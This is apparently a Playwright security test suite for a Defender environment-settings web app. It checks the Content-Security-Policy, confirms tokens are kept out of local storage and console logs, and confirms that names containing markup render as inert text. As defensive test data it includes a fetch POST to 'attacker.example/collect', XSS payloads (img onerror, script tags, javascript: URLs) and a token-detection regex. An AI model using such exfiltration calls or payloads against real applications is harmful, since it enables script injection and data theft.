import { accounts, expect, injectFault, seed, signIn, subscriptionNamed, test, stagePromptEvidence } from "./support";

test("the built app runs under a Content-Security-Policy: no inline script, connections only to the configured endpoints", async ({
  page,
}) => {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      void (window as unknown as { reportViolation: (d: string) => Promise<void> }).reportViolation(event.effectiveDirective);
    });
  });
  await signIn(page, accounts.owner);

  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').first().getAttribute("content");
  expect(policy).toContain("script-src 'self'");

  const inlineRan = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.inlineScriptRan = true";
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return (window as unknown as { inlineScriptRan?: boolean }).inlineScriptRan === true;
  });
  expect(inlineRan).toBe(false);

  const elsewhere = await page.evaluate(() =>
    fetch("https://attacker.example/collect", { method: "POST", body: "x" }).then(
      () => "sent",
      () => "blocked",
    ),
  );
  expect(elsewhere).toBe("blocked");
  await expect.poll(() => violations).toEqual(expect.arrayContaining(["script-src-elem", "connect-src"]));
});

test("tokens stay in MSAL's session storage and nothing sensitive reaches the console", async ({ page }) => {
  const console: string[] = [];
  page.on("console", (message) => console.push(message.text()));
  page.on("pageerror", (error) => console.push(error.message));

  await signIn(page, accounts.owner, "/defender/environment-settings");
  await page.getByRole("link", { name: subscriptionNamed("Contoso AI Research").displayName }).click();
  await stagePromptEvidence(page);
  await page.getByRole("button", { name: "Save" }).click();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();

  const storage = await page.evaluate(() => ({
    local: Object.entries(localStorage) as Array<[string, string]>,
    session: Object.entries(sessionStorage) as Array<[string, string]>,
  }));
  const jwt = /eyJ[\w-]+\.[\w-]+\./;
  expect(storage.local.filter(([, value]) => jwt.test(value))).toEqual([]);
  const sessionWithTokens = storage.session.filter(([, value]) => jwt.test(value)).map(([key]) => key);
  expect(sessionWithTokens.length).toBeGreaterThan(0);
  // MSAL's cache entries only (their keys carry the account's home id or MSAL's prefix).
  for (const key of sessionWithTokens) expect(key).toMatch(/msal|login\.windows\.net|localhost|-accesstoken-|-idtoken-|-refreshtoken-/i);

  expect(console.filter((line) => jwt.test(line) || /Bearer |[?#&]code=|refresh_token/i.test(line))).toEqual([]);
});

const payload = (marker: number) => `<img src=x onerror="window.xss=${String(marker)}">`;
const noScriptRan = async (page: import("@playwright/test").Page) => {
  expect(await page.evaluate(() => (window as unknown as { xss?: number }).xss)).toBeUndefined();
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
};

test("display names and directory names with markup or javascript: URLs render as inert text", async ({ page }) => {
  const contoso = seed.tenants[0];
  const [first, second] = seed.subscriptions;
  if (!contoso || !first || !second) throw new Error("seed changed");
  await injectFault(
    { method: "GET", path: "/tenants" },
    {
      kind: "body",
      body: JSON.stringify({
        value: [
          {
            id: `/tenants/${contoso.tenantId}`,
            tenantId: contoso.tenantId,
            displayName: `${payload(1)}Contoso <script>window.xss=2</script>`,
          },
        ],
      }),
    },
  );
  // Environment settings' Resource Graph query: subscription and management group names as attacker-chosen text.
  const group = { name: "evil-group", displayName: `${payload(4)}Group` };
  const root = { name: contoso.tenantId, displayName: "Tenant Root Group" };
  await injectFault(
    { method: "POST", path: "/providers/Microsoft.ResourceGraph/resources" },
    {
      kind: "body",
      body: JSON.stringify({
        totalRecords: 2,
        count: 2,
        resultTruncated: "false",
        data: [
          {
            id: `/subscriptions/${first.subscriptionId}`,
            subscriptionId: first.subscriptionId,
            name: `${payload(3)}Evil`,
            state: "Enabled",
            managementGroups: [group, root],
          },
          {
            id: `/subscriptions/${second.subscriptionId}`,
            subscriptionId: second.subscriptionId,
            name: "javascript:alert(document.domain)",
            state: "Enabled",
            managementGroups: [root],
          },
        ],
      }),
    },
  );
  await signIn(page, accounts.owner, "/defender/environment-settings");

  await expect(page.getByText(`${payload(3)}Evil`)).toBeVisible();
  await expect(page.getByRole("row", { name: `${payload(4)}Group (1 of 1 subscriptions)` })).toBeVisible();
  await expect(page.getByText(`${payload(1)}Contoso <script>window.xss=2</script>`).first()).toBeVisible();
  const link = page.getByRole("link", { name: "javascript:alert(document.domain)" });
  await expect(link).toHaveAttribute("href", /^\/defender\/environment-settings\//);
  await noScriptRan(page);
});

test("a component failure message with markup renders as inert text", async ({ page }) => {
  const production = subscriptionNamed("Contoso Production");
  await signIn(page, accounts.owner, `/defender/environment-settings/${production.tenantId}/${production.subscriptionId}`);
  await page.getByRole("switch", { name: "AI workloads" }).click();
  const crafted = {
    id: `/subscriptions/${production.subscriptionId}/providers/Microsoft.Security/pricings/AI`,
    name: "AI",
    type: "Microsoft.Security/pricings",
    properties: {
      pricingTier: "Standard",
      extensions: [
        {
          name: "AIModelScanner",
          isEnabled: "True",
          operationStatus: { code: "Failed", message: `${payload(4)} <a href="javascript:window.xss=5">fix</a>` },
        },
      ],
    },
  };
  await injectFault({ method: "PUT", path: "/**/pricings/AI" }, { kind: "body", body: JSON.stringify(crafted) });
  await page.getByRole("button", { name: "Save" }).click();
  await expect(page.getByText(`AI Model Security failed: ${payload(4)} <a href="javascript:window.xss=5">fix</a>`).first()).toBeVisible();
  await expect(page.getByRole("row", { name: /AI workloads/ }).getByText(`AI Model Security failed: ${payload(4)}`)).toBeVisible();
  await expect(page.getByRole("link", { name: "fix" })).toHaveCount(0);
  await noScriptRan(page);
});
